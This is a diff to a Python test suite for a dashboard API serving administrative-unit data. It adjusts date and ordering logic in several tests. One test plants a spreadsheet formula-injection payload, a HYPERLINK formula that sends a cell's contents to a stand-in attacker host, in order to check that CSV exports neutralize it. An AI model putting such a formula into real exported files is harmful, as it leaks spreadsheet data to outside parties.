@@ -340,7 +340,7 @@ def test_units_are_those_in_existence_at_the_period_end(client, session):
     units_2023 = client.get("/api/v1/units?period=2023").get_json()["data"]
     units_2025 = client.get("/api/v1/units?period=2025").get_json()["data"]
     for period_code, units in (("2023", units_2023), ("2025", units_2025)):
-        end = svc.get_period(session, period_code).end_date
+        end = svc.get_period(session, period_code).count_date  # 2025: 30/6/2025
         count = session.scalar(sa.select(sa.func.count(OrgUnit.id)).where(OrgUnit.valid_on(end)))
         assert len(units) == count
     codes_2023 = {u["gso_code"]: u for u in units_2023}
@@ -533,7 +533,9 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 def test_csv_cells_cannot_run_as_formulas(client, session):
     """Catches a CSV written without `dashboard.inert`: a unit or indicator name starting
     with `=` would run as a formula in Excel. JSON keeps the text as stored."""
-    commune = session.scalar(sa.select(OrgUnit).where(OrgUnit.gso_code == "23590"))
+    commune = session.scalar(
+        sa.select(OrgUnit).where(OrgUnit.gso_code == "23590").order_by(OrgUnit.valid_from)
+    )
     ind = svc.get_indicator(session, "GOV-C8_4")
     old_unit, old_name = commune.name, ind.name_vi
     commune.name, ind.name_vi = HOSTILE, "+" + HOSTILE
@@ -550,7 +552,9 @@ def test_csv_cells_cannot_run_as_formulas(client, session):
         data = client.get("/api/v1/units?period=2023").get_json()["data"]
         assert next(u["name"] for u in data if u["gso_code"] == "23590") == HOSTILE
     finally:
-        commune = session.scalar(sa.select(OrgUnit).where(OrgUnit.gso_code == "23590"))
+        commune = session.scalar(
+            sa.select(OrgUnit).where(OrgUnit.gso_code == "23590").order_by(OrgUnit.valid_from)
+        )
         ind = svc.get_indicator(session, "GOV-C8_4")
         commune.name, ind.name_vi = old_unit, old_name
         session.commit()
